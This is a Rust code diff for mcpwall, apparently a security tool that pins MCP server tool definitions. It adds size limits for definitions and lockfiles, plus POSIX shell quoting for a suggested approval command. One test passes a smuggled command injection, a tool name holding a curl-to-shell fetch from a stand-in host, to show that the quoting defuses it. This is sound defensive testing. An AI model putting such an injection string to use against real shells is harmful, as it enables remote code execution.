@@ -34,6 +34,12 @@ pub const VERSION: u32 = 1;
 pub const MAX_PENDING: usize = 1000;
 /// The most tools a server's first sight pins; more are withheld as additions.
 pub const MAX_FIRST_SIGHT: usize = 4096;
+/// The largest tool definition pinned or recorded, in bytes of its canonical (indented) form;
+/// a larger one is withheld. Real definitions, schemas included, are a few KiB.
+pub const MAX_DEFINITION: usize = 128 * 1024;
+/// The most bytes of definitions (pinned and pending) kept for one server: a server must not
+/// make the lockfile, which every mcpwall process re-reads, grow without bound.
+pub const MAX_SERVER_BYTES: usize = 8 * 1024 * 1024;
 
 /// Every server's pins.
 #[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
@@ -112,6 +118,26 @@ fn sorted(v: &Value) -> Value {
     }
 }
 
+/// The command that approves `tool` of `server`, for a person to paste into a POSIX shell:
+/// names are the server's (or a project's configuration's) choice, so each is quoted where it
+/// holds more than plain characters, and cannot become shell syntax.
+pub fn approve_command(server: &str, tool: &str) -> String {
+    format!(
+        "mcpwall pins approve --server {} --tool {}",
+        shell_word(server),
+        shell_word(tool)
+    )
+}
+
+/// `s` as one word of a POSIX shell command line.
+pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_.,:/@%+=-".contains(c);
+    if !s.is_empty() && s.chars().all(plain) {
+        return std::borrow::Cow::Borrowed(s);
+    }
+    std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', r"'\''")))
+}
+
 /// The SHA-256 of `bytes`, in lower-case hex: the one hash of pins and audit chains.
 pub fn sha256_hex(bytes: &[u8]) -> String {
     const DIGITS: &[u8; 16] = b"0123456789abcdef";
@@ -135,6 +161,8 @@ pub enum ToolStatus {
     Changed,
     /// The server did not have it when its tools were pinned.
     Added,
+    /// Its definition is larger than [`MAX_DEFINITION`]: neither pinned nor recorded.
+    Oversized,
 }
 
 impl ToolStatus {
@@ -222,12 +250,22 @@ impl Lock {
             ServerPins::default()
         });
         let first_sight = out.new_server || first_listing;
+        let mut stored: usize = pins
+            .tools
+            .values()
+            .chain(pins.pending.values())
+            .map(|p| p.definition.len())
+            .sum();
         for (name, def) in tools {
             let pin = Pin::of(def);
+            let size = pin.definition.len();
+            let fits = stored.saturating_add(size) <= MAX_SERVER_BYTES;
             let status = match pins.tools.get(*name) {
                 Some(p) if p.sha256 == pin.sha256 => ToolStatus::Pinned,
+                _ if size > MAX_DEFINITION => ToolStatus::Oversized,
                 Some(_) => ToolStatus::Changed,
-                None if first_sight && pins.tools.len() < MAX_FIRST_SIGHT => {
+                None if first_sight && pins.tools.len() < MAX_FIRST_SIGHT && fits => {
+                    stored += size;
                     pins.tools.insert((*name).to_owned(), pin);
                     out.changed = true;
                     out.tools.push(((*name).to_owned(), ToolStatus::FirstSight));
@@ -235,12 +273,21 @@ impl Lock {
                 }
                 None => ToolStatus::Added,
             };
-            // Pending changes are bounded per server: a server inventing new names at every
-            // listing must not grow a lockfile every mcpwall process re-reads. Beyond the
-            // bound a change is still withheld, just not recorded for approval.
-            let room = pins.pending.len() < MAX_PENDING || pins.pending.contains_key(*name);
+            if status == ToolStatus::Oversized {
+                out.tools.push(((*name).to_owned(), status));
+                continue;
+            }
+            // Pending changes are bounded per server, in number and bytes: a server inventing
+            // new names at every listing must not grow a lockfile every mcpwall process
+            // re-reads. Beyond the bound a change is still withheld, just not recorded for
+            // approval.
+            let room =
+                pins.pending.contains_key(*name) || (pins.pending.len() < MAX_PENDING && fits);
             if !status.allowed() && room && pins.pending.get(*name) != Some(&pin) {
-                pins.pending.insert((*name).to_owned(), pin);
+                stored += size;
+                if let Some(old) = pins.pending.insert((*name).to_owned(), pin) {
+                    stored = stored.saturating_sub(old.definition.len());
+                }
                 out.changed = true;
             }
             out.tools.push(((*name).to_owned(), status));
@@ -300,6 +347,19 @@ mod tests {
     }
 
     #[test]
+    fn names_in_a_suggested_command_stay_words() {
+        assert_eq!(
+            approve_command("notes", "add_note"),
+            "mcpwall pins approve --server notes --tool add_note"
+        );
+        assert_eq!(
+            approve_command("a b", "x'$(curl evil|sh)'"),
+            r"mcpwall pins approve --server 'a b' --tool 'x'\''$(curl evil|sh)'\'''"
+        );
+        assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("a;b\nc"), "'a;b\nc'");
+    }
+    #[test]
     fn first_sight_pins_then_changes_wait_for_approval() {
         let mut lock = Lock::new();
         let v1 = tool("Read a note.");
@@ -356,6 +416,36 @@ mod tests {
         assert_eq!(lock.servers["s"].pending.len(), MAX_PENDING);
     }
 
+    #[test]
+    fn definitions_kept_are_bounded_in_bytes() {
+        // Nested arrays grow many times over when indented: a few KiB of JSON in a frame, a
+        // hundred times that in the lockfile.
+        let mut nested = json!(vec![0; 2000]);
+        for _ in 0..55 {
+            nested = json!([nested]);
+        }
+        let huge = json!({"name": "huge", "inputSchema": {"x": nested}});
+        let mut lock = Lock::new();
+        let c = lock.check("s", &[("huge", &huge)], Listing::Whole, false);
+        assert_eq!(c.tools, vec![("huge".to_owned(), ToolStatus::Oversized)]);
+        assert!(!ToolStatus::Oversized.allowed());
+        assert!(lock.servers["s"].tools.is_empty());
+        // Many large ones: pinned or recorded up to the server's budget, withheld beyond it.
+        let big = |k: usize| json!({"name": format!("t{k}"), "description": "x".repeat(100_000)});
+        let tools: Vec<(String, Value)> = (0..200).map(|k| (format!("t{k}"), big(k))).collect();
+        let listed: Vec<(&str, &Value)> = tools.iter().map(|(n, v)| (n.as_str(), v)).collect();
+        let mut lock = Lock::new();
+        lock.check("s", &listed, Listing::Whole, false);
+        let pinned = lock.servers["s"].tools.len();
+        assert!((50..100).contains(&pinned), "{pinned}");
+        let c = lock.check("s", &listed, Listing::Whole, false);
+        let withheld = c.tools.iter().filter(|(_, st)| !st.allowed()).count();
+        assert_eq!(withheld, 200 - pinned);
+        assert!(
+            lock.servers["s"].pending.is_empty(),
+            "no room left to record them"
+        );
+    }
     #[test]
     fn a_first_listing_in_pages_is_first_sight_on_each_of_its_pages() {
         let mut lock = Lock::new();
